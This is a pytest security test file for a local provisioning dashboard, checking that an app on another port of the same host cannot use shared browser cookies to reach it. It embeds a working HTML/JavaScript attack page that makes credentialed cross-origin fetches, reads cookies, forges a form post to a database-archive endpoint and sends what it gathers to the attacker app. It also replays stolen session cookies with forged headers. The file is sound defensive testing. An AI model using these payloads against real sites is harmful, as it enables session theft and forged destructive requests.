"""An app on another port of the dashboard's host, visited in the same browser, gets nothing that opens the dashboard.

Browsers send cookies to every port of a host. An app of a development branch is a program that anybody may have pushed.
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import urllib3
from chromium import launched, log_in, visit
from connect_world import Server, serving
from dashboard_world import HERE, Visitor, code
from eavesdropper import Eavesdropper, eavesdropping
from playwright.sync_api import Browser, Page, expect
from support import database_of, ok, shop, statuses

World = tuple[Server, Path, Browser, Eavesdropper]

ATTACK = """<!doctype html><title>an app</title><iframe name="quiet"></iframe>
<form id="form" method="post" target="quiet"><input name="answer" value="yes"></form>
<script>
const dashboard = DASHBOARD, told = [];
const tell = async () => { await fetch("/told", {method: "POST", body: JSON.stringify(told)}); document.title = "done"; };
const attack = async () => {
  for (const path of ["/", "/apps/shop", "/alive", "/~/", "/login", "/static/dashboard.js"]) {
    for (const mode of ["cors", "no-cors"]) {
      const answer = await fetch(dashboard + path, {mode, credentials: "include"}).catch((error) => ({error}));
      told.push([path, mode, answer.status, answer.url, answer.redirected, await answer.text?.().catch(() => "")]);
    }
  }
  told.push(document.cookie, document.referrer, window.opener?.location?.href, performance.getEntries().map((each) => each.name));
  const form = document.getElementById("form");
  form.action = dashboard + PATH;
  form.submit();
  const other = window.open(dashboard + "/apps/shop");
  for (let turn = 0; turn < 20; turn += 1) {
    await new Promise((done) => setTimeout(done, 50));
    try { told.push(other?.location?.href, other?.document?.body?.innerText); } catch (error) { told.push(String(error)); }
  }
  try { told.push(frames.quiet.location.href, frames.quiet.document.body.innerText); } catch (error) { told.push(String(error)); }
  await tell();
};
attack();
</script>"""


@pytest.fixture(scope="module")
def world(shared_home: Path) -> Iterator[World]:
    repo = shop(shared_home.parent / "shop", "login")
    with serving(shared_home) as server, launched() as browser, eavesdropping() as app:
        yield server, repo, browser, app


@pytest.fixture(autouse=True)
def home(shared_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PROVISIONER_HOME", str(shared_home))
    return shared_home


@pytest.fixture
def page(world: World) -> Iterator[Page]:
    context = world[2].new_context()
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("dashboard", ["127.0.0.1", "localhost"])
def test_an_app_on_another_port_hears_nothing_that_opens_the_dashboard(
    world: World, home: Path, page: Page, dashboard: str
) -> None:
    server, repo, _, app = world
    base = f"http://{dashboard}:{server.port}"
    log_in(page, base, home)
    visit(page, f"{base}/apps/shop")
    (cookie,) = page.context.cookies()
    secrets = {cookie["value"], page.url.split("/")[3].removeprefix("~")}
    archive = f"/databases/{database_of(repo, 'production')['id']}/archive"
    app.page = ATTACK.replace("DASHBOARD", json.dumps(base)).replace("PATH", json.dumps(archive))
    for host in ("127.0.0.1", "localhost", "login.shop.localhost", f"{dashboard}"):
        visit(page, f"{base}/apps/shop")
        before = len(app.heard)
        address = f"http://{host}:{app.port}"
        page.evaluate("(address) => { location.href = address }", f"{address}/from-a-page-of-ours")
        page.wait_for_url(f"{address}/**")
        expect(page).to_have_title("done", timeout=30_000)
        page.goto(f"{address}/typed")
        for other in page.context.pages:  # whose streams take up the connections that a browser has for a host
            if other != page:
                other.close()
        assert len(app.heard) >= before + 2
    heard = app.everything
    assert [secret for secret in secrets if secret in heard] == []
    assert "provisioner_" not in heard
    assert "git-branch" not in heard
    assert statuses(repo)["production"] == "connected"
    visit(page, f"{base}/apps/shop")
    expect(page.get_by_role("heading", name="shop", level=1)).to_be_visible()


def asked(server: Server, method: str, path: str, headers: dict[str, str], body: str = "") -> urllib3.BaseHTTPResponse:
    with urllib3.PoolManager(retries=False, timeout=60) as pool:
        return pool.request(method, server.base + path, headers=headers, body=body, redirect=False)


def test_a_stolen_cookie_opens_nothing_whatever_else_is_forged(world: World, home: Path) -> None:
    server, repo, _, _ = world
    victim, insider = Visitor(server.base), Visitor(server.base)
    victim.log_in(code(home))
    insider.log_in(ok(repo, "token", "create", "--admin", "--read-only").strip())
    (cookie,) = (f"{name}={value}" for name, value in victim.cookies.items())
    database = database_of(repo, "production")["id"]
    roots = ("", "/~", "/~x", f"/~{'A' * 22}", insider.root, f"/~{next(iter(victim.cookies.values()))[:22]}")
    hosts = (f"127.0.0.1:{server.port}", "localhost", f"login.shop.localhost:{server.port}")
    pages = ("/", "/apps/shop", "/events", "/alive", f"/databases/{database}/keys", f"/databases/{database}/events")
    for root, host, path in itertools.product(roots, hosts, pages):
        headers = {**HERE, "host": host, "origin": f"http://{host}", "cookie": cookie, "referer": f"http://{host}/"}
        answer = asked(server, "GET", root + path, headers)
        assert answer.status in (303, 401, 421) or answer.data == b"false", (root, host, path)
        assert b"shop" not in answer.data
        assert victim.root.encode() not in answer.data + answer.headers.get("location", "").encode()
    for root, path in itertools.product(roots, ("reveal", "archive", "keys")):
        fields = f"csrf={victim.csrf}&answer=yes"
        headers = {**HERE, "cookie": cookie, "content-type": "application/x-www-form-urlencoded"}
        answer = asked(server, "POST", f"{root}/databases/{database}/{path}", headers, fields)
        assert answer.status in (401, 404, 405), (root, path)
        assert b"ptd_" not in answer.data
    assert statuses(repo)["production"] == "connected"
    assert victim.get("/apps/shop").status == 200


def test_an_address_alone_opens_nothing(world: World, home: Path) -> None:
    server, _, _, _ = world
    victim = Visitor(server.base)
    victim.log_in(code(home))
    for cookie in ("", "x=1", f"{next(iter(victim.cookies))}={'A' * 43}"):
        answer = asked(server, "GET", f"{victim.root}/apps/shop", {"cookie": cookie})
        assert (answer.status, answer.headers["location"]) == (303, "/login?next=/apps/shop")


def test_every_link_and_form_of_a_page_leads_to_where_its_session_lives(world: World, home: Path) -> None:
    server, repo, _, _ = world
    visitor = Visitor(server.base)
    visitor.log_in(code(home))
    database = f"/databases/{database_of(repo, 'git-branch/login')['id']}"
    paths = ("/", "/instances/default", "/apps/shop", "/apps/shop/variables", "/activity", "/add-instance", "/assign")
    for path in (*paths, database, f"{database}/keys", f"{database}/copies", "/none"):
        text = asked(server, "GET", visitor.root + path, {"cookie": cookies(visitor)}).data.decode()
        links = re.findall(r'(?:href|action|src|data-[\w-]+)="(/[^"]*)"', text)
        assert len(links) > 5
        stray = {link for link in links if not link.startswith((f"{visitor.root}/", "/static/"))}
        assert stray == set(), path


def cookies(visitor: Visitor) -> str:
    return "; ".join(f"{name}={value}" for name, value in visitor.cookies.items())
